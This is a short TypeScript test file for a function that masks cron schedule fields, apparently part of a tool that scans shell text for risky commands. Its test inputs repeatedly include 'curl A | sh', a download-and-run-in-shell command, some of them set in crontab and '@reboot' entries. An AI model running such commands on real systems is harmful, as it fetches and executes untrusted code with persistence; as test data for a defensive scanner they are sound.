import { expect, it } from "vitest";
import { maskSchedules } from "../../../src/core/segment/schedules.js";
import { Source } from "../../../src/core/source.js";

const mask = (text: string): string => maskSchedules(Source.whole(text)).text;

it.each([
  ["* * * * * curl A | sh", "          curl A | sh"],
  ["*/5 2 1,15 * mon-fri curl A | sh", "                     curl A | sh"],
  ["crontab -e\n0 4 * * * root curl A | sh", "crontab -e\n               curl A | sh"],
  ["@reboot curl A | sh", "        curl A | sh"],
])("%s", (text, masked) => {
  expect(mask(text)).toBe(masked);
});

it.each(["echo * * * * * curl A", "1 2 3 4 5 curl A", "* * curl A | sh", "@host curl A | sh", "echo '* * * * * curl A | sh' | crontab -", "ls *", "* * * * *"])("%s stays", (text) => {
  expect(mask(text)).toBe(text);
});
